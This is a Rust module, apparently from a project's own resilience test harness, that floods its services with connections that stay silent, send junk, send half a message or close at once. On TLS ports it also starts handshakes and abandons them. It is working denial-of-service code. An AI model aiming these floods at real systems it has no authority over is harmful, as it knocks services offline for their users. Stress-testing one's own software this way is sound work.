//! Floods of connections. Each connection is silent, sends nonsense, sends half of a first message, or closes at once.
//! At ports with TLS, every second connection starts a handshake and does not continue it.

use super::target::AttackTarget;
use anyhow::{Context, Result, bail};
use bytes::Bytes;
use sp1d_identity::TlsIdentity;
use std::{net::SocketAddr, sync::Arc, time::Duration};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{TcpListener, TcpStream},
    task::JoinSet,
    time::{interval, timeout},
};

/// Number of new connections in each group: 1,000 in a second.
const PER_TICK: usize = 10;
/// Maximum number of connections at the same time. The attacker's own process needs its other files.
const MAX_OPEN: usize = 3000;
/// Time between two groups of new connections.
const TICK: Duration = Duration::from_millis(10);
/// Longest time for which a connection stays open, if the victim does not end it.
const HOLD: Duration = Duration::from_millis(1500);

/// What a connection sends first. `None` sends nothing and closes at once.
type FirstBytes = Option<Bytes>;

/// Bytes that no protocol starts with.
const NONSENSE: &[u8] = &[0xff; 64];

/// Returns what the connections of a flood send, in turns. `half` is half of a first message.
fn first_bytes(half: &'static [u8]) -> Vec<FirstBytes> {
    let sent: [&'static [u8]; 3] = [b"", NONSENSE, half];
    sent.into_iter().map(|first| Some(Bytes::from_static(first))).chain([None]).collect()
}

pub(super) async fn worker_flood(target: AttackTarget) -> Result<()> {
    flood(&target, target.worker_port, &first_bytes(b"SP1D")).await
}

pub(super) async fn join_flood(target: AttackTarget) -> Result<()> {
    flood(&target, target.join_port, &first_bytes(b"SP1D")).await
}

pub(super) async fn http_flood(target: AttackTarget) -> Result<()> {
    flood(&target, target.http_port, &first_bytes(b"GET /healthz HT")).await
}

pub(super) async fn hosted_flood(target: AttackTarget) -> Result<()> {
    flood(&target, target.hosted_port, &first_bytes(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")).await
}

pub(super) async fn health_flood(target: AttackTarget) -> Result<()> {
    flood(&target, target.health_port, &first_bytes(b"GET /healthz HT")).await
}

pub(super) async fn worker_tls_flood(target: AttackTarget) -> Result<()> {
    flood(&target, target.worker_port, &first_tls_bytes(&target.hello)).await
}

pub(super) async fn join_tls_flood(target: AttackTarget) -> Result<()> {
    flood(&target, target.join_port, &first_tls_bytes(&target.hello)).await
}

/// Returns what the connections of a flood of a port with TLS send, in turns. Every second one sends a whole `hello`,
/// which costs the victim a key exchange and a signature, and the attacker nothing.
fn first_tls_bytes(hello: &Bytes) -> Vec<FirstBytes> {
    let half = hello.slice(..hello.len() / 2);
    let others = [Some(Bytes::new()), Some(Bytes::from_static(NONSENSE)), Some(half), None];
    others.into_iter().flat_map(|other| [Some(hello.clone()), other]).collect()
}

/// Returns the first message of a TLS handshake, as a peer with the identity `tls` sends it. Nothing in it is secret.
pub(crate) async fn client_hello(tls: &Arc<TlsIdentity>) -> Result<Bytes> {
    /// Longest message. Without the certificates, which come later, it has some hundred bytes.
    const MAX_HELLO_BYTES: usize = 4096;
    let listener = TcpListener::bind("127.0.0.1:0").await.context("no port is free")?;
    let address = listener.local_addr().context("the listener has no address")?;
    let dialing = tls.connect(TcpStream::connect(address).await.context("cannot connect to an own port")?);
    let (mut accepted, _) = listener.accept().await.context("cannot accept an own connection")?;
    let mut hello = vec![0; MAX_HELLO_BYTES];
    let read = tokio::select! {
        read = accepted.read(&mut hello) => read.context("cannot read a first message")?,
        _ = dialing => bail!("a TLS handshake without a peer ended"),
    };
    hello.truncate(read);
    Ok(hello.into())
}

/// Opens connections at the wanted rate until it is dropped.
async fn flood(target: &AttackTarget, port: SocketAddr, first: &[FirstBytes]) -> Result<()> {
    let mut connections = JoinSet::new();
    let mut ticks = interval(TICK);
    let mut first = first.iter().cloned().cycle();
    loop {
        ticks.tick().await;
        while connections.try_join_next().is_some() {}
        let room = MAX_OPEN.saturating_sub(connections.len());
        for first in first.by_ref().take(PER_TICK.min(room)) {
            let target = target.clone();
            connections.spawn(async move {
                let held = timeout(2 * HOLD, hold(&target, port, first)).await;
                match held {
                    Ok(Ok(())) => {}
                    Ok(Err(error)) => target.counts.refuse(&format!("{error:#}")),
                    Err(_) => target.counts.refuse("no connection in time"),
                }
            });
        }
    }
}

/// Opens a connection, sends `first`, and holds it.
async fn hold(target: &AttackTarget, port: SocketAddr, first: FirstBytes) -> Result<()> {
    let mut stream = target.connect(port).await?;
    target.act();
    // The end of the connection leaves no socket behind. Otherwise the attacker would run out of ports.
    stream.set_zero_linger()?;
    let Some(first) = first else { return Ok(()) };
    stream.write_all(&first).await?;
    let mut reply = [0; 256];
    let read = async { while stream.read(&mut reply).await.is_ok_and(|bytes| bytes > 0) {} };
    let _ = timeout(HOLD, read).await;
    Ok(())
}
